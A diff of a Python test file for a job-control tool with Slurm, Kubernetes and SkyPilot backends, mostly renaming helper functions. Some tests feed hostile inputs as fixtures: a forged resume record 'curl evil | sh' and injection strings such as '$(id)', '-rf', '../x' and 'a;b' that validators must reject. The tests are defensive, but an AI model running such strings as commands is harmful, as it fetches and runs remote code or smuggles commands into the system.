@@ -17,17 +17,17 @@ from typing import Any
 import pytest
 
 from jobc.backends.kubernetes.engine.kubernetes_engine import KubernetesEngine
-from jobc.backends.kubernetes.engine.pods import why_waiting
+from jobc.backends.kubernetes.engine.pods import why_pod_is_waiting
 from jobc.backends.skypilot.engine.skypilot_engine import SkypilotEngine
-from jobc.backends.slurm.engine.slurm_engine import SlurmEngine, pending
+from jobc.backends.slurm.engine.slurm_engine import SlurmEngine, why_job_is_pending
 from jobc.compiler.plugins.registry import find_plugins
+from jobc.runtime.engines.artifact_location import Place
 from jobc.runtime.engines.engine import Answer, Engine, Job, State
-from jobc.runtime.engines.jobs import Place
-from jobc.runtime.engines.watch import live_runs
+from jobc.runtime.engines.run_watch import ids_of_live_runs
 from jobc.runtime.run_folder.run import Run, last_progress, worst_code
 from jobc.runtime.system.failure import Failure
-from jobc.runtime.system.processes import identity, start_ticks
-from jobc.runtime.system.values import number, read_keys, word
+from jobc.runtime.system.processes import identify_process, process_start_time
+from jobc.runtime.system.values import number_or_none, read_keys, word_or_empty
 from jobc.runtime.verbs import status
 from tests.packed import write_program
 
@@ -70,12 +70,18 @@ class ReplyingKubernetes(Replying, KubernetesEngine):
 
 
 def node(**keys: object) -> str:
-    fields = {**identity(), "pid": os.getpid(), "start_ticks": start_ticks(os.getpid()), "started": 1, **keys}
+    fields = {
+        **identify_process(),
+        "pid": os.getpid(),
+        "start_ticks": process_start_time(os.getpid()),
+        "started": 1,
+        **keys,
+    }
     return "".join(f"{key}={value}\n" for key, value in fields.items())
 
 
 def lines(engine: Engine, run: Run) -> list[str]:
-    return status._lines(status.describe(engine, run), "logs in")
+    return status._lines(status.run_as_json(engine, run), "logs in")
 
 
 def test_a_live_node_is_up_with_its_last_step(tmp_path: Path) -> None:
@@ -167,7 +173,7 @@ def test_a_node_without_an_exit_code_is_a_crash(tmp_path: Path) -> None:
 def test_a_run_that_ended_early_goes_on_with_the_submit_script_of_the_artifact(tmp_path: Path) -> None:
     run = make_run(tmp_path, state__node_00=node(ended=5, exit=75), state__resume="command=curl evil | sh\n")
     job = make_job(tmp_path)
-    assert status.describe(Engine(job), run)["resume"] == f"{job.artifact}/jobctl submit --resume r"
+    assert status.run_as_json(Engine(job), run)["resume"] == f"{job.artifact}/jobctl submit --resume r"
 
 
 # ---- values of files that somebody else may have written
@@ -175,12 +181,12 @@ def test_a_run_that_ended_early_goes_on_with_the_submit_script_of_the_artifact(t
 
 @pytest.mark.parametrize("text", ["", "-1", "1" * 19, "٣", "1.5", "x[$(id)]", " 1"])
 def test_a_number_is_bounded_digits(text: str) -> None:
-    assert number(text) is None and number("007") == 7
+    assert number_or_none(text) is None and number_or_none("007") == 7
 
 
 @pytest.mark.parametrize("text", ["", "-rf", "../x", "a b", "$(id)", "a;b"])
 def test_a_word_is_no_option_and_no_path(text: str) -> None:
-    assert word(text) == "" and word("job-1.a_b") == "job-1.a_b"
+    assert word_or_empty(text) == "" and word_or_empty("job-1.a_b") == "job-1.a_b"
 
 
 def test_the_first_line_of_a_key_counts_without_control_characters(tmp_path: Path) -> None:
@@ -270,9 +276,9 @@ def test_squeue_gets_no_option_from_a_record(tmp_path: Path, forged: str) -> Non
 
 
 def test_reasons_of_squeue_are_explained() -> None:
-    assert pending("ReqNodeNotAvail, UnavailableNodes:n1").startswith("the job requests nodes that are down")
-    assert pending("QOSMaxJobsPerUserLimit").endswith("(QOSMaxJobsPerUserLimit)")
-    assert pending("Brand-New") == "Brand-New"
+    assert why_job_is_pending("ReqNodeNotAvail, UnavailableNodes:n1").startswith("the job requests nodes that are down")
+    assert why_job_is_pending("QOSMaxJobsPerUserLimit").endswith("(QOSMaxJobsPerUserLimit)")
+    assert why_job_is_pending("Brand-New") == "Brand-New"
 
 
 # ---- Kubernetes
@@ -340,14 +346,14 @@ def test_how_a_kubernetes_job_ended_is_kept_for_when_its_object_is_gone(tmp_path
 def test_a_kubernetes_job_that_is_gone_is_not_called_failed(tmp_path: Path) -> None:
     run, engine = make_run(tmp_path, state__job_0=RECORD), kubernetes(tmp_path, uid="another")
     assert engine.state(run).name == "gone"
-    engine.record_codes(run, [0, 75])
+    engine.record_end_from_node_codes(run, [0, 75])
     assert engine.state(run).text == "stopped early (exit 75)"
 
 
 def test_a_job_whose_pods_were_deleted_ended_as_its_storage_says(tmp_path: Path) -> None:
     run, engine = make_run(tmp_path, state__job_0=RECORD), kubernetes(tmp_path, "Failed\tx\tno more tries\n")
     assert "job demo has failed, and its pods were deleted; its exit code is only in" in engine.state(run).text
-    engine.record_codes(run, [75, 75])
+    engine.record_end_from_node_codes(run, [75, 75])
     assert engine.state(run).text == "stopped early (exit 75)"
 
 
@@ -362,7 +368,7 @@ def test_a_context_that_left_the_kubeconfig_is_named_and_its_run_is_kept(tmp_pat
     run, engine = make_run(tmp_path, state__job_0=RECORD.replace("context=", "context=old")), kubernetes(tmp_path)
     engine.reply = lambda _: Answer(1, "", 'error: context "old" does not exist\n')
     why = "the kubeconfig no longer has a context old"
-    assert engine.state(run) == State("gone", why) and engine.why_it_stays(run) == why
+    assert engine.state(run) == State("gone", why) and engine.why_not_removable(run) == why
     assert not list(engine.nodes(run, engine.state(run)))
 
 
@@ -384,7 +390,7 @@ WAITING = {
     ],
 )
 def test_why_a_pod_waits_is_what_must_be_mended(status: dict[str, Any], expected: tuple[str, bool]) -> None:
-    assert why_waiting({"status": status}) == expected
+    assert why_pod_is_waiting({"status": status}) == expected
 
 
 LOG = """\
@@ -487,7 +493,7 @@ def test_live_runs_are_found_before_another_one_starts(tmp_path: Path, place: Pl
     for age, (name, state) in enumerate(states.items()):
         run = make_run(tmp_path, name, **({"state__node_00": state} if state else {}))
         os.utime(run.path / "artifact", (1000 - age, 1000 - age))
-    assert live_runs(place.engine(), place.list_runs()) == ["new", "older"]
+    assert ids_of_live_runs(place.engine(), place.list_runs()) == ["new", "older"]
 
 
 def subscripted_types(tree: ast.Module) -> Iterator[str]:
@@ -527,6 +533,6 @@ def test_the_programs_run_with_python_3_8(tmp_path: Path) -> None:
 def test_the_format_for_programs_is_documented(tmp_path: Path) -> None:
     page = (RUNTIME.parent / "docs/reference/status.md").read_text()
     run = make_run(tmp_path, state__node_00=node())
-    report = status.describe(Engine(make_job(tmp_path)), run)
+    report = status.run_as_json(Engine(make_job(tmp_path)), run)
     keys = {*report, *report["nodes"][0], "schema", "runs", "points", "point"}
     assert not [key for key in keys if f"`{key}`" not in page]
